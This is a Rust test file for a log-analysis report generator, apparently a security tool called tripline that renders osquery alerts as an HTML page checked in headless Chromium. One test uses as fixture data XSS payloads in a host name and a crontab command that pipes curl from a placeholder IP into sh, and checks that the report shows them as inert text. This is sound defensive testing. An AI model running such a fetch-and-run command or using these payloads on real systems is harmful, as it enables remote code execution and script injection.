//! `tripline report` as a user runs it, and its page as a browser shows it: the real binary
//! over the bundled sample logs, the page rendered by a real headless Chromium (see
//! `cdp/mod.rs`), checked against the Navigator layer and the alerts the same run wrote.

mod cdp;
mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use common::{repo, tripline_ok as tripline};
use serde_json::{json, Value};

/// A fresh directory for one test's outputs, kept after the run (screenshots to look at).
fn out_dir(test: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join("report")
        .join(test);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("output dir");
    dir
}

/// The data the page embeds.
fn embedded(html: &str) -> Value {
    let start = html
        .find(r#"<script type="application/json" id="tripline-data">"#)
        .expect("the data element");
    let rest = &html[start..];
    let body = &rest[rest.find('>').unwrap() + 1..rest.find("</script>").unwrap()];
    serde_json::from_str(body).expect("embedded JSON")
}

fn ids(v: &Value) -> BTreeSet<String> {
    v.as_array()
        .expect("an array")
        .iter()
        .map(|s| s.as_str().expect("a string").to_string())
        .collect()
}

/// Everything a clean page says: nothing. Fails with what was said otherwise.
fn assert_quiet(browser: &cdp::Browser) {
    let said: Vec<String> = browser
        .complaints
        .iter()
        .map(|c| format!("{}: {}", c.source, c.text))
        .collect();
    assert!(said.is_empty(), "the page complained:\n{}", said.join("\n"));
}

const WIDTH: u32 = 1600;

#[test]
fn report_of_the_sample_logs_renders_cleanly_and_matches_the_layer() {
    let dir = out_dir("sample");
    let (html_path, layer_path) = (dir.join("report.html"), dir.join("fired.json"));
    let out = tripline(&[
        "report",
        "events/osquery",
        "--out",
        html_path.to_str().unwrap(),
        "--layer",
        layer_path.to_str().unwrap(),
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("tripline report: records="), "{stderr}");
    let html = std::fs::read_to_string(&html_path).unwrap();
    let data = embedded(&html);
    let layer: Value =
        serde_json::from_str(&std::fs::read_to_string(&layer_path).unwrap()).unwrap();
    let layer_ids: BTreeSet<String> = layer["techniques"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["techniqueID"].as_str().unwrap().to_string())
        .collect();
    assert!(
        !layer_ids.is_empty(),
        "the samples fire rules with techniques"
    );
    // The same alerts as scan over the same logs.
    let scan = tripline(&["scan", "events/osquery", "--format", "ndjson"]);
    let scan_ids: BTreeSet<String> = String::from_utf8_lossy(&scan.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["id"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert!(!scan_ids.is_empty());

    let mut browser = cdp::Browser::launch(WIDTH, 1200);
    browser.call("Network.enable", json!({}));
    browser.open(&html_path);
    assert_quiet(&browser);

    // Nothing but the file itself was requested: no CDN, no font, no image.
    let requested = browser
        .eval("performance.getEntriesByType('resource').map(e => e.name).concat([location.href])");
    for url in requested.as_array().unwrap() {
        let url = url.as_str().unwrap();
        assert!(
            url.starts_with("file://") || url.starts_with("data:"),
            "{url}"
        );
    }

    // The heatmap: the cells marked alerted name exactly the layer's techniques, with the
    // alert counts the layer scores; the cells marked observed name exactly the techniques
    // of the embedded observations.
    let cells = browser.eval(
        "[...document.querySelectorAll('#matrix .cell[data-technique]')].map(c => ({
            technique: c.dataset.technique,
            observed: (c.dataset.observed || '').split(' ').filter(Boolean),
            alerted: (c.dataset.alerted || '').split(' ').filter(Boolean),
            title: c.title }))",
    );
    let cells = cells.as_array().unwrap();
    assert!(
        cells.len() > 150,
        "the whole Enterprise matrix: {} cells",
        cells.len()
    );
    let mut alerted = BTreeSet::new();
    let mut observed = BTreeSet::new();
    for cell in cells {
        let parent = cell["technique"].as_str().unwrap();
        assert!(!parent.contains('.'), "cells are techniques: {parent}");
        for id in ids(&cell["alerted"]).iter().chain(&ids(&cell["observed"])) {
            assert_eq!(
                id.split('.').next().unwrap(),
                parent,
                "{id} rolls up into {parent}"
            );
            assert!(
                cell["title"].as_str().unwrap().contains(id.as_str()),
                "hover names {id}"
            );
        }
        alerted.extend(ids(&cell["alerted"]));
        observed.extend(ids(&cell["observed"]));
    }
    assert_eq!(
        alerted, layer_ids,
        "alerted cells = the fired layer's techniques"
    );
    for t in layer["techniques"].as_array().unwrap() {
        let id = t["techniqueID"].as_str().unwrap();
        assert_eq!(
            data["techniques"][id]["alerts"].as_f64(),
            t["score"].as_f64(),
            "{id}: alerts on the page = the layer's score"
        );
    }
    let embedded_observed: BTreeSet<String> = data["techniques"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(_, t)| t["observed"].as_u64().unwrap() > 0)
        .map(|(id, _)| id.clone())
        .collect();
    assert!(!embedded_observed.is_empty());
    assert_eq!(observed, embedded_observed);
    // A cell's count switches with the colour mode.
    let t1059 = "document.querySelector('#matrix .cell[data-technique=\"T1059\"] .n').textContent";
    let obs_text = browser.eval(t1059);
    browser.eval(
        "(() => { const m = document.getElementById('matrix-mode'); m.value = 'alerts';
                  m.dispatchEvent(new Event('change')); })()",
    );
    let alerts_text = browser.eval(t1059);
    let t1059_alerts: u64 = data["techniques"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(id, _)| id.split('.').next() == Some("T1059"))
        .map(|(_, t)| t["alerts"].as_u64().unwrap())
        .sum();
    assert_eq!(alerts_text, json!(t1059_alerts.to_string()));
    assert_ne!(obs_text, alerts_text);

    // The alerts table: every alert of the scan, once.
    let rows = "[...document.querySelectorAll('#alerts-table tbody tr')]";
    let shown = browser.eval(&format!("{rows}.map(r => r.dataset.alert)"));
    let shown_ids = ids(&shown);
    assert_eq!(shown.as_array().unwrap().len(), shown_ids.len());
    assert_eq!(shown_ids, scan_ids);
    // Filtered by severity...
    let critical: usize = String::from_utf8_lossy(&scan.stdout)
        .lines()
        .filter(|l| serde_json::from_str::<Value>(l).unwrap()["severity"] == "critical")
        .count();
    assert!(critical > 0);
    let set = |id: &str, value: &str| {
        format!(
            "(() => {{ const s = document.getElementById('{id}'); s.value = {value:?};
                      s.dispatchEvent(new Event('change')); return s.value; }})()"
        )
    };
    assert_eq!(
        browser.eval(&set("filter-severity", "critical")),
        "critical"
    );
    let severities = browser.eval(&format!("{rows}.map(r => r.dataset.severity)"));
    assert_eq!(severities.as_array().unwrap().len(), critical);
    assert!(severities
        .as_array()
        .unwrap()
        .iter()
        .all(|s| s == "critical"));
    browser.eval(&set("filter-severity", ""));
    // ...by technique (a parent takes its sub-techniques)...
    assert_eq!(browser.eval(&set("filter-technique", "T1059")), "T1059");
    let techs = browser.eval(&format!(
        "{rows}.map(r => [...r.querySelectorAll('.chip')].map(c => c.textContent))"
    ));
    assert!(!techs.as_array().unwrap().is_empty());
    for row in techs.as_array().unwrap() {
        assert!(ids(row).iter().any(|id| id.starts_with("T1059")), "{row}");
    }
    browser.eval(&set("filter-technique", ""));
    // ...by host and by rule.
    let host = "web-01.prod.acme.io";
    assert_eq!(browser.eval(&set("filter-host", host)), host);
    let hosts = browser.eval(&format!("{rows}.map(r => r.children[3].textContent)"));
    assert!(!hosts.as_array().unwrap().is_empty());
    assert!(hosts
        .as_array()
        .unwrap()
        .iter()
        .all(|h| h.as_str().unwrap().contains(host)));
    browser.eval(&set("filter-host", ""));
    assert_eq!(
        browser.eval(&set("filter-rule", "osquery_suspicious_cron")),
        "osquery_suspicious_cron"
    );
    let rules = browser.eval(&format!("{rows}.map(r => r.children[1].textContent)"));
    assert!(!rules.as_array().unwrap().is_empty());
    assert!(rules
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r == "osquery_suspicious_cron"));
    browser.eval(&set("filter-rule", ""));
    // Sorted by event count, largest first, when its heading is clicked.
    browser.eval("document.querySelector('#alerts-table th[data-key=\"count\"]').click()");
    let counts = browser.eval(&format!(
        "{rows}.map(r => Number(r.children[5].textContent.replace(/,/g, '')))"
    ));
    let counts: Vec<u64> = counts
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_u64().unwrap())
        .collect();
    assert_eq!(counts.len(), scan_ids.len());
    assert!(counts.windows(2).all(|w| w[0] >= w[1]), "{counts:?}");
    assert!(counts.first() > counts.last());

    // Hosts, queries and the parse accounting are there, with the run's numbers.
    let hosts = browser.eval("document.querySelectorAll('#hosts tr[data-host]').length");
    assert_eq!(hosts, data["totals"]["hosts"]);
    let queries = browser.eval("document.querySelectorAll('#queries tr[data-query]').length");
    assert_eq!(queries, data["totals"]["queries"]);
    let parse = browser.eval("document.getElementById('parse').textContent");
    let records = data["parse"]["records"].as_u64().unwrap();
    assert!(
        parse
            .as_str()
            .unwrap()
            .contains(&format!("records {records} = decoded")),
        "{parse}"
    );
    assert!(
        parse.as_str().unwrap().contains('\u{2713}'),
        "the counts add up: {parse}"
    );

    // Back to the first view for the picture.
    browser.eval(
        "(() => { const m = document.getElementById('matrix-mode'); m.value = 'observed';
                  m.dispatchEvent(new Event('change'));
                  document.querySelector('#alerts-table th[data-key=\"severity\"]').click(); })()",
    );
    assert_quiet(&browser);
    let png = browser.screenshot(WIDTH);
    assert!(
        png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 20_000,
        "{} bytes",
        png.len()
    );
    std::fs::write(dir.join("report.png"), &png).unwrap();
    // `TRIPLINE_DOCS_SCREENSHOT=1` refreshes the README's picture: the top of the page.
    if std::env::var_os("TRIPLINE_DOCS_SCREENSHOT").is_some() {
        let top = browser.call(
            "Page.captureScreenshot",
            json!({"format": "png", "captureBeyondViewport": true,
                   "clip": {"x": 0, "y": 0, "width": WIDTH, "height": 1500, "scale": 1}}),
        );
        use base64::Engine;
        let png = base64::engine::general_purpose::STANDARD
            .decode(top["data"].as_str().unwrap())
            .unwrap();
        std::fs::write(repo().join("docs/report.png"), png).unwrap();
    }
}

/// A host name and a crontab command that try to end the data's `<script>` and run their
/// own: they show as text, and nothing runs.
#[test]
fn attacker_controlled_strings_stay_text() {
    let dir = out_dir("injection");
    let host = r#"<img src=x onerror="document.title='pwned'"></script><script>document.title='pwned'</script>"#;
    let command = r#"curl http://198.51.100.7/</script><img src=x onerror=alert(1)><!-- | sh"#;
    let record = json!({
        "name": "pack_tripline-common_crontab",
        "hostIdentifier": host,
        "unixTime": 1794883269u64,
        "counter": 93,
        "columns": {"minute": "*", "hour": "*", "day_of_month": "*", "month": "*",
                    "day_of_week": "*", "command": command, "path": "/var/spool/cron/crontabs/www"},
        "action": "added",
    });
    let log = dir.join("evil.ndjson");
    std::fs::write(&log, format!("{record}\n")).unwrap();
    let html_path = dir.join("report.html");
    tripline(&[
        "report",
        log.to_str().unwrap(),
        "--out",
        html_path.to_str().unwrap(),
    ]);
    let html = std::fs::read_to_string(&html_path).unwrap();
    // The page's own elements only.
    assert_eq!(html.matches("<script").count(), 2, "{html}");
    assert!(!html.contains("<img"));
    let data = embedded(&html);
    assert_eq!(
        data["totals"]["alerts"], 1,
        "the cron rule fires: {}",
        data["totals"]
    );

    let mut browser = cdp::Browser::launch(WIDTH, 900);
    browser.open(&html_path);
    assert_quiet(&browser);
    assert_eq!(browser.eval("document.title"), "tripline report");
    assert_eq!(browser.eval("document.querySelectorAll('img').length"), 0);
    assert_eq!(
        browser.eval("document.querySelectorAll('script').length"),
        2
    );
    // Shown as they were logged.
    let hosts = browser
        .eval("[...document.querySelectorAll('#hosts tr[data-host]')].map(r => r.dataset.host)");
    assert_eq!(hosts, json!([host]));
    let title =
        browser.eval("document.querySelector('#alerts-table td.title').firstChild.textContent");
    let title = title.as_str().unwrap();
    assert!(title.contains(command) && title.contains(host), "{title}");
    let host_cell = browser.eval("document.querySelector('#hosts summary').textContent");
    assert_eq!(host_cell, host);
}

/// The harness hears what a broken page says: an uncaught exception, a console error, and a
/// resource its Content-Security-Policy refuses.
#[test]
fn the_browser_harness_hears_errors() {
    let dir = out_dir("harness");
    let cases = [
        ("exception", "<script>throw new Error('boom')</script>"),
        ("console", "<script>console.error('said')</script>"),
        (
            "csp",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\">\
             <img src=\"http://127.0.0.1:9/x.png\">",
        ),
    ];
    let mut browser = cdp::Browser::launch(800, 600);
    for (name, body) in cases {
        let page = dir.join(format!("{name}.html"));
        std::fs::write(
            &page,
            format!("<!DOCTYPE html><html><head></head><body>{body}</body></html>"),
        )
        .unwrap();
        browser.complaints.clear();
        browser.open(&page);
        assert!(!browser.complaints.is_empty(), "{name}: not heard");
    }
}
